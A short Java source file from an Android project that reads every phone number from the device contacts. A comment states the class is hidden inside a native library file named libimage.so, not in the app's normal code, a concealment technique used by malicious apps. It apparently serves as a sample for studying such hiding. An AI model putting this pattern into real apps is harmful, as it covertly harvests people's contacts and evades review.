package com.example.nativefolder;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract;

/** Is not in classes.dex: it lies in lib/arm64-v8a/libimage.so. */
public class Part {
    public static String text(Context context) {
        Cursor cursor = context.getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        StringBuilder text = new StringBuilder();
        while (cursor.moveToNext()) {
            text.append(cursor.getString(cursor.getColumnIndex("data1")));
        }
        cursor.close();
        return text.toString();
    }
}
